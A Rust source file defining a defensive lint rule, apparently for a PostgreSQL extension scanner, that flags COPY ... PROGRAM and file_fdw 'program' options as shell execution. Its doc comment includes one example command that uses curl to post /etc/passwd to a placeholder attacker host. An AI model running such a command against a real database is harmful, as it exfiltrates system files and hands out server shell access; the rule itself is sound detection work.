//! EG101: COPY ... PROGRAM, and file_fdw's `program` option.

use pg_query::protobuf::{CopyStmt, CreateForeignTableStmt};

use crate::parse::names;
use crate::rules::RuleCx;

declare_rule! {
    /// ## What it flags
    /// `COPY ... TO PROGRAM` / `COPY ... FROM PROGRAM`, and a foreign table
    /// with a `program` option (file_fdw), wherever they appear: at top level,
    /// in function bodies, DO blocks and dynamic SQL that extguard can read.
    ///
    /// ## Why it is dangerous
    /// The command runs in a shell as the operating-system user of the
    /// server: full control of the data directory, its configuration and
    /// everything the server process can reach. Only superusers and members of
    /// `pg_execute_server_program` may do it, so an extension script doing it
    /// escapes any platform boundary drawn inside the database.
    ///
    /// ## Example
    /// ```sql
    /// COPY (SELECT '') TO PROGRAM 'curl -d @/etc/passwd http://attacker';
    /// ```
    ///
    /// ## Fix
    /// Extensions have no business running shell commands: remove it.
    pub static RULE = { code: "EG101", name: "copy-program", title: "COPY to or from a shell command", severity: Error };
}

pub fn check(ck: &mut RuleCx, c: &CopyStmt) {
    if !c.is_program {
        return;
    }
    // the PROGRAM keyword in front of the command (a table may be named program)
    let span = ck
        .string_span(&c.filename)
        .and_then(|cmd| ck.keyword_span_before("program", cmd.start))
        .unwrap_or_else(|| ck.keyword_span("program"));
    let dir = if c.is_from { "FROM" } else { "TO" };
    ck.report(
        &RULE,
        span,
        format!(
            "COPY {dir} PROGRAM runs the shell command '{}' as the server's operating-system user",
            c.filename
        ),
        Some(c.filename.clone()),
    );
}

/// `CREATE FOREIGN TABLE ... OPTIONS (program '...')` (file_fdw).
pub fn check_foreign_table(ck: &mut RuleCx, t: &CreateForeignTableStmt) {
    let Some(opt) = names::def_elem(&t.options, "program") else {
        return;
    };
    let span = ck.token_span(opt.location);
    let cmd = names::def_arg_text(opt).unwrap_or_default();
    ck.report(
        &RULE,
        span,
        format!("the foreign table runs the shell command '{cmd}' each time it is read"),
        Some(cmd),
    );
}
